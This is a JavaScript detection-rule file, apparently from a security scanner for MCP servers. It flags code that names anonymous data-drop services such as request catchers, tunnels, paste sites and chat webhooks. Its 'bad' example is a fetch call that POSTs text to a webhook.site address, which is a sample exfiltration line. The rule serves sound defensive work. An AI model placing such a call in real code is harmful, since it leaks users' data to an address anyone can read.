import { defineRule } from "@mcp-assay/core/define/rule";
import hosts from "./drop-hosts.json" with { type: "json" };

const DROP = new RegExp(
  `https?://(?:[\\w-]+\\.)*(?:${hosts.map((host) => host.replaceAll(".", "\\.")).join("|")})(?=[/"'\`:\\s])[^"'\`\\s)]*`,
  "g",
);
/** The start page of such a service, or an example, leads nowhere. */
const LEADS_SOMEWHERE = /[/=][\w-]{8,}|^https?:\/\/[\w-]{8,}\./;

export default defineRule({
  key: "hidden-network/data-drop-address",
  ruleId: "MCP-M001",
  threatId: "MCP-928",
  tier: "T1",
  title: "Address where data is dropped",
  since: "0.1.0",
  status: "stable",
  category: "malware",
  severity: "medium",
  confidence: "medium",
  audience: "everyone",
  dimensions: { scope: 0.7, exploitability: 0.5, impact: 0.7, detection: 0.9, amplification: 0.4 },
  cwe: [506, 201],
  owaspMcp: ["MCP04:2025"],
  owaspAsi: ["ASI04"],
  safeMcp: ["SAFE-T1901", "SAFE-T1913"],
  msss: ["MCP-NET-02"],
  cvss: "AV:N/AC:L/AT:N/PR:N/UI:P/VC:H/VI:N/VA:N/SC:H/SI:N/SA:N",
  what: "The code names an address of a service with which data can be collected anonymously: a request catcher, a tunnel, a paste site, a chat webhook with its token.",
  why: "Programs that steal data send it there, since nothing leads back to their author.",
  fix: "Remove the address; let the operator configure where anything is sent.",
  misses: ["Addresses that are encoded or assembled.", "Servers of the author's own."],
  messages: { found: "{host} takes data from anybody, and whoever owns the address reads it." },
  examples: {
    bad: [
      {
        language: "javascript",
        code: `export const report = (text) => fetch("https://webhook.site/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", { method: "POST", body: text });
`,
      },
    ],
    good: [
      {
        language: "javascript",
        code: `export const report = (text) => fetch("https://api.example.com/report", { method: "POST", body: text });
`,
        reason: "An ordinary service of the author's own.",
      },
    ],
  },
  onFile: {
    wants: (path) => /\.(?:[cm]?[jt]sx?|py|sh|ps1|json)$/.test(path) && !/lock|\.test\.|CHANGELOG/i.test(path),
    *check(file) {
      for (const match of file.text.slice(0, 2_000_000).matchAll(DROP)) {
        const host = /^https?:\/\/([^/:]+)/.exec(match[0])?.[1] ?? "";
        const rest = match[0].slice(match[0].indexOf(host));
        if (LEADS_SOMEWHERE.test(rest) || LEADS_SOMEWHERE.test(match[0])) {
          yield { message: "found", holes: { host }, place: file.place(match.index, match.index + match[0].length) };
        }
      }
    },
  },
});
